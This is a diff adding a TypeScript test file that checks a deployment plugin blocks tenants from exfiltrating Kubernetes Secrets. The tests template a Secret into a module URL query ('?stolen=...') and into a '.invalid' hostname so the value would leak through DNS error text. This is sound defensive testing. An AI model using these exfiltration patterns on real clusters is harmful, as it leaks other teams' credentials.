@@ -1,0 +1,73 @@
+// Tenant attacks through `refs` (issue 11 item 1): an Application author names Secrets in `refs` and places their values
+// in the module URL. A ref reads only in the app's destination namespace, or where the admin's JETWAY_LOOKUP_CEILING
+// admits it, and its value never shows in what jetway writes (argocd-contract.md: stderr becomes the ComparisonError).
+
+import assert from 'node:assert/strict';
+import { after, before, test } from 'node:test';
+import { startApiServer, type FakeApiServer } from '../support/apiserver.js';
+import { jetwayLine, startPluginRig, type PluginRig } from '../support/plugin-rig.js';
+import { startHttpServer, type TestServer } from '../support/http-server.js';
+import { watModule } from '../support/wat.js';
+
+let api: FakeApiServer;
+let rig: PluginRig;
+let modules: TestServer;
+
+before(async () => {
+  api = await startApiServer({ namespaces: ['team-a', 'other-team'] });
+  rig = await startPluginRig(api, { 'app/README': 'an app whose module comes from a URL\n' });
+  const flight = await watModule('yaml-stages');
+  modules = await startHttpServer((request, response) => {
+    response.end(request.url?.startsWith('/flight.wasm') ? flight : 'no');
+  });
+});
+
+after(async () => {
+  await modules.close();
+  await rig.close();
+  await api.close();
+});
+
+const secret = (namespace: string, name: string, data: Record<string, string>) =>
+  api.put({ apiVersion: 'v1', kind: 'Secret', metadata: { name, namespace }, data: Object.fromEntries(Object.entries(data).map(([k, v]) => [k, Buffer.from(v).toString('base64')])) });
+
+const secretReads = (namespace: string, name: string) => api.requests.filter((r) => r.path === `/api/v1/namespaces/${namespace}/secrets/${name}`).length;
+
+test("an app author reads another namespace's Secret through refs and sends it to their own server", async () => {
+  secret('other-team', 'db-password', { password: 'hunter2' });
+  const parameters = [
+    { name: 'refs', map: { pw: JSON.stringify({ secret: 'db-password', key: 'password', namespace: 'other-team' }) } },
+    { name: 'wasm', string: `${modules.url}/flight.wasm?stolen={{ .pw }}` },
+  ];
+  await assert.rejects(rig.repoServer().generate(rig.app('thief', 'app', parameters)), (error: unknown) => {
+    assert.match(
+      jetwayLine(error),
+      /^jetway: generate for Application thief failed: parameter refs\.pw: got "other-team\/db-password", expected a Secret in the destination namespace team-a; Secrets elsewhere only where the admin ceiling JETWAY_LOOKUP_CEILING admits them/,
+    );
+    return true;
+  });
+  assert.equal(secretReads('other-team', 'db-password'), 0, 'the Secret was never read');
+  assert.deepEqual(modules.requests, [], 'nothing was sent anywhere');
+
+  // the admin can grant exactly that Secret; then the same Application renders
+  const granted = rig.repoServer({ JETWAY_LOOKUP_CEILING: 'other-team/Secret:db-password' });
+  const { manifests } = await granted.generate(rig.app('granted', 'app', parameters));
+  assert.equal(manifests.length, 2);
+  assert.deepEqual(modules.requests, ['/flight.wasm?stolen=hunter2']);
+});
+
+test("an app author puts a Secret's value in the module URL's host to read it from the ComparisonError", async () => {
+  secret('team-a', 'registry-token', { token: 'S3cretT0ken' });
+  const parameters = [
+    { name: 'refs', map: { token: JSON.stringify({ secret: 'registry-token', key: 'token' }) } },
+    { name: 'wasm', string: 'http://{{ .token }}.invalid/flight.wasm' },
+  ];
+  await assert.rejects(rig.repoServer().generate(rig.app('leaker', 'app', parameters)), (error: unknown) => {
+    const line = jetwayLine(error);
+    // the resolver names the host lower-cased (getaddrinfo ENOTFOUND s3crett0ken.invalid): no form of the value may show
+    assert.doesNotMatch(line, /s3crett0ken/i);
+    assert.match(line, /^jetway: generate for Application leaker failed: cannot download module http:\/\/\{\{ \.token \}\}\.invalid\/flight\.wasm: .*\{\{ \.token \}\}\.invalid/);
+    return true;
+  });
+  assert.equal(secretReads('team-a', 'registry-token'), 1);
+});
